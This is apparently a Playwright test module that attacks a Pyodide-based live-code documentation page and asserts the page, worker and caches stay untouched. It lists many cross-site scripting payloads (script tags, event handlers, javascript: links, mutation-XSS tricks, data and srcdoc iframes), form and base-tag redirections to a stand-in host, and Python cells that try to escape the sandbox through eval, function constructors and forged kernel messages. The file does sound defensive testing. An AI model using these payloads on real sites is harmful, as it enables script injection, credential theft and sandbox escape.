"""What a pasted cell, an output and a stored value try against the site, and do not get."""

import json

import pytest
from playwright.sync_api import Page, expect

from . import live
from .visits import CHAPTER

SCOPE = [
    "caches",
    "CacheStorage",
    "Cache",
    "indexedDB",
    "IDBFactory",
    "Worker",
    "SharedWorker",
    "BroadcastChannel",
    "importScripts",
    "postMessage",
    "close",
    "onmessage",
    "FileSystemDirectoryHandle",
    "FileSystemSyncAccessHandle",
    "StorageManager",
    "LockManager",
    "ServiceWorkerContainer",
    "ServiceWorkerRegistration",
    "Notification",
    "cookieStore",
    "EventSource",
    "WebTransport",
    "trustedTypes",
    "navigator.storage",
    "navigator.locks",
    "navigator.serviceWorker",
    "navigator.storageBuckets",
    "navigator.permissions",
    "navigator.usb",
    "URL.createObjectURL",
]
"""Names inside `js` that a cell is not to find, by any of the ways below."""

WAYS = """
import js
from pyodide.ffi import JsProxy

def follow(start, name):
    for part in name.split("."):
        start = getattr(start, part, None)
        if start is None:
            return None
    return start

def chain(start):
    while start is not None and str(start.constructor.name) != "Object":
        yield start
        start = js.Object.getPrototypeOf(start)

def found(name):
    *path, last = name.split(".")
    holder = follow(js, ".".join(path)) if path else js.self
    roads = [lambda: follow(js, name), lambda: follow(js.globalThis, name)]
    for part in chain(holder):
        roads.append(lambda part=part: js.Reflect.get(part, last))
        roads.append(lambda part=part: js.Object.getOwnPropertyDescriptor(part, last))
    for road in roads:
        try:
            if (thing := road()) is not None and str(thing) != "undefined":
                return repr(thing)
        except Exception:
            pass
    return None
"""

CODE = {
    "eval of a string": "import js\njs.eval('self.owned = 1')",
    "the constructor of functions": "import js\njs.Function.new('self.owned = 1')()",
    "a constructor found at a function": "import js\njs.fetch.constructor('return 1')()",
    "Pyodide's run_js": "from pyodide.code import run_js\nrun_js('self.owned = 1')",
    "a cache found in a fetch": "import js\n(await js.fetch('.')).constructor.caches.open('x')",
    "a mounted private folder": "import pyodide_js\n"
    "await pyodide_js.mountNativeFS('/m', await __import__('js').navigator.storage.getDirectory())",
    "Emscripten's file system in IndexedDB": "import pyodide_js\nfs = pyodide_js.FS\n"
    "fs.mkdir('/i')\nfs.mount(fs.filesystems.IDBFS, {}, '/i')\nfs.syncfs(True, lambda e: 1)\n"
    "pyodide_js.FS.filesystems.IDBFS.indexedDB().open('live-code')",
    "another type of message through the kernel": "from live_kernel import bridge\nimport gc\n"
    "from pyodide.ffi import JsProxy\n"
    "posts = [o for o in gc.get_objects() if isinstance(o, JsProxy) and callable(o)]\n"
    "[p(1, 'start_failed', '{}', {}) for p in posts]\nraise RuntimeError('no way out')",
    "the same, once what looks at the type has been replaced": "import gc, js\n"
    "emit = next(f for f in gc.get_objects() if type(f).__name__ == 'function'\n"
    "            and f.__qualname__ == 'connect.<locals>.emit')\n"
    "post = emit.__closure__[emit.__code__.co_freevars.index('post')].cell_contents\n"
    "before = js.Object.hasOwn\n"
    "js.Object.hasOwn = js.Object.isExtensible\n"
    'try:\n    post(1, \'died\', \'{"reason": "forged", "where": null}\', {})\n'
    "finally:\n    js.Object.hasOwn = before",
    "a message without a shape": "from live_kernel import bridge\n"
    "raise RuntimeError(bridge.forge())",
}
"""Cells that end in an error of their own, and leave page, worker and caches as they were."""

OUTPUTS = {
    "script": "<script>window.owned = 1</script>",
    "handler": "<img src=x onerror='window.owned = 1'>",
    "handler in svg": "<svg onload='window.owned = 1'><animate onbegin='window.owned = 1'></svg>",
    "svg script": "<svg><script>window.owned = 1</script></svg>",
    "foreign object": "<svg><foreignObject><iframe srcdoc='<script>top.owned=1</script>'></iframe>"
    "</foreignObject></svg>",
    "svg in math": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=window.owned=1&gt;'>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=window.owned=1>'>",
    "template": "<template><img src=x onerror='window.owned=1'></template>",
    "javascript link": "<a href='javascript:window.owned=1'>x</a>",
    "javascript link with spaces": "<a href=' java\tscript:window.owned=1'>x</a>",
    "xlink": "<svg><a xlink:href='javascript:window.owned=1'><text y=20>x</text></a></svg>",
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x onload=window.owned=1>#x'></svg>",
    "animated link": "<svg><a><animate attributeName=href values='javascript:window.owned=1'/>"
    "<text y=20>x</text></a></svg>",
    "data page": "<iframe src='data:text/html,<script>parent.owned=1</script>'></iframe>",
    "srcdoc": "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    "object": "<object data='data:text/html,<script>parent.owned=1</script>'></object>",
    "embed": "<embed src='data:text/html,<script>parent.owned=1</script>'>",
    "formaction": "<form><button formaction='javascript:window.owned=1'>x</button></form>",
    "form elsewhere": "<form action='https://evil.test'><input name=password></form>",
    "base": "<base href='https://evil.test/'>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "style sheet": "<link rel=stylesheet href='https://evil.test/a.css'>",
    "style": "<style>@import 'https://evil.test/a.css'; body { display: none }</style>",
    "dialog": "<dialog open>x</dialog>",
    "clobbered data": "<div id=live-code>{}</div><img name=body><a id=documentElement>x</a>",
    "portal": "<portal src='https://evil.test'></portal>",
    "blob script": "<script src='blob:null/x'></script>",
    "autofocus": "<input autofocus onfocus='window.owned=1'>",
    "details": "<details open ontoggle='window.owned=1'>x</details>",
    "marquee": "<marquee onstart='window.owned=1'>x</marquee>",
    "video": "<video><source onerror='window.owned=1'></video>",
    "cdata": "<svg><![CDATA[><img src=x onerror=window.owned=1>]]></svg>",
    "doubled": "<scr<script>ipt>window.owned=1</scr</script>ipt>",
}

PRESSED = {
    "a dialog of the theme": "<div class=modal>x</div>"
    "<button data-bs-toggle=modal data-bs-target=.modal>go</button>",
    "folding the page": "<button data-bs-toggle=collapse data-bs-target=article>go</button>",
    "a curtain over the page": "<button data-bs-toggle=offcanvas data-bs-target=header>go</button>",
    "closing the page": "<button data-bs-dismiss=alert data-bs-target=article>go</button>",
    "closing the output": "<div class=alert><button data-bs-dismiss=alert>go</button></div>",
    "the theme's search": "<button class='search-button search-button__button'>go</button>",
    "the theme's colours": "<button class='theme-switch theme-switch-button'>go</button>",
    "a command": "<button commandfor=pst-search-dialog command=show-modal>go</button>",
    "a switch of the page": "<label for=switch-of-the-page>go</label>",
    "a link in SVG": "<svg height=40><a xlink:href='https://evil.test/x'><text y=20>go</text></a>"
    "</svg>",
    "a link in MathML": "<math><mrow href='https://evil.test/x'><mi>go</mi></mrow></math>",
}
"""Outputs that act on the page, or leave it, when a reader presses them."""

PAGE = """() => [
  document.body.className, document.body.style.cssText,
  ...["article", "header", ".cell_output"].map((place) => document.querySelector(place)?.className),
  document.querySelectorAll("[class$='-backdrop']").length, location.href,
  document.getElementById("switch-of-the-page").checked,
  document.querySelectorAll("dialog[open]").length, document.documentElement.dataset.mode,
]"""
SWITCH = """() => {
  if (document.getElementById("switch-of-the-page")) return;
  const box = document.createElement("input");
  Object.assign(box, { type: "checkbox", id: "switch-of-the-page" });
  document.querySelector("article").append(box);
}"""


@pytest.fixture(scope="module")
def attacked(browser, isolated_server):
    """One live page for all attacks; nothing may have happened to it at the end."""
    context = browser.new_context(viewport={"width": 1280, "height": 900}, service_workers="block")
    context.add_init_script(live.ON_A_QUICK_LINE)
    context.route(lambda url: "evil.test" in url, lambda route: route.abort())
    asked: list[str] = []
    context.on("request", lambda request: asked.append(request.url))
    page = context.new_page()
    page.set_default_timeout(live.RUN_TIMEOUT)
    page.goto(f"{isolated_server}/{CHAPTER}")
    live.press_live_code(page)
    yield page
    assert page.evaluate("window.owned") is None
    assert [url for url in asked if "evil.test" in url] == []
    assert page.evaluate("caches.keys()") == []
    assert live.printed(page, "print(6 * 7)") == ["42"]
    context.close()


@pytest.fixture(scope="module")
def found(attacked: Page) -> dict[str, str | None]:
    """What one cell that looks for all names finds."""
    looked = f"{WAYS}\nimport json\nprint(json.dumps({{name: found(name) for name in {SCOPE!r}}}))"
    [answer] = live.printed(attacked, looked)
    return json.loads(answer)


@pytest.mark.parametrize("name", SCOPE)
def test_a_cell_does_not_find(found: dict[str, str | None], name: str):
    assert found[name] is None


def test_the_cell_that_looks_does_find_what_is_there(attacked: Page):
    assert live.printed(attacked, f"{WAYS}\nprint(found('fetch') is None)") == ["False"]


@pytest.mark.parametrize("name", CODE)
def test_a_cell_fails_that_tries(attacked: Page, name: str):
    live.write(attacked, 0, CODE[name])
    live.run(attacked, 0, expected="error")
    expect(attacked.locator("html")).to_have_attribute("data-live", "ready")


@pytest.mark.parametrize("name", OUTPUTS)
def test_an_output_runs_nothing_and_asks_nobody(attacked: Page, name: str):
    live.write(
        attacked, 0, f"from IPython.display import HTML, display\ndisplay(HTML({OUTPUTS[name]!r}))"
    )
    live.run(attacked, 0)
    output = live.cell(attacked, 0).locator(".cell_output")
    for thing in output.locator("a, button, summary, input").all():
        if thing.is_visible():
            thing.dispatch_event("click")
    forbidden = "script, iframe, object, embed, form, base, meta, link, style, dialog, portal"
    assert output.locator(forbidden).count() == 0
    assert output.locator("[name], [srcdoc], [formaction]").count() == 0
    ids = output.locator("[id]").evaluate_all("nodes => nodes.map((node) => node.id)")
    assert [id_ for id_ in ids if id_ in {"live-code", "documentElement", "body"}] == []
    handlers = "nodes => nodes.flatMap((n) => n.getAttributeNames()).filter((n) => /^on/i.test(n))"
    assert output.locator("*").evaluate_all(handlers) == []
    assert attacked.evaluate("window.owned") is None
    assert attacked.evaluate("document.getElementById('live-code').localName") == "script"


@pytest.mark.parametrize("kind", ["HTML", "Markdown"])
@pytest.mark.parametrize("name", PRESSED)
def test_an_output_that_is_pressed_does_nothing_to_the_page(attacked: Page, name: str, kind: str):
    attacked.evaluate(SWITCH)
    source = f"from IPython.display import {kind}, display\ndisplay({kind}({PRESSED[name]!r}))"
    live.write(attacked, 0, source)
    live.run(attacked, 0)
    output = live.cell(attacked, 0).locator(".cell_output")
    before = attacked.evaluate(PAGE)
    for link in output.locator("a").all():
        assert link.get_attribute("target") == "_blank"
    assert output.locator("math [href]").count() == 0
    for thing in output.locator("button, label").all():
        thing.evaluate("(node) => node.click()")
    assert attacked.evaluate(PAGE) == before


def test_markdown_takes_no_name_of_the_pages(attacked: Page):
    source = "from IPython.display import Markdown\nMarkdown('<a id=live-code>x</a>')"
    live.write(attacked, 0, source)
    live.run(attacked, 0)
    expect(live.cell(attacked, 0).locator(".text_markdown a")).to_have_text("x")
    assert attacked.locator("#live-code").count() == 1


def test_a_message_that_a_cell_dispatches_to_its_worker_is_not_the_pages(attacked: Page):
    source = (
        "import js\nfrom pyodide.ffi import to_js\n"
        "data = to_js({'type': 'connect_request'}, dict_converter=js.Object.fromEntries)\n"
        "init = to_js({'data': data}, dict_converter=js.Object.fromEntries)\n"
        "js.self.dispatchEvent(js.MessageEvent.new('message', init))\nprint('sent')"
    )
    assert live.printed(attacked, source) == ["sent"]
    assert live.printed(attacked, "print('still here')") == ["still here"]


def test_what_readers_need_of_the_browser_is_there(attacked: Page):
    source = (
        "import js\nfrom pyodide.http import pyfetch\n"
        "page = await pyfetch(js.location.href)\nprint(page.status)\n"
        "print(js.navigator.userAgent[:7])\n"
        "from urllib.request import pathname2url\nprint(pathname2url('a b'))"
    )
    assert live.printed(attacked, source) == ["200\nMozilla\na%20b"]
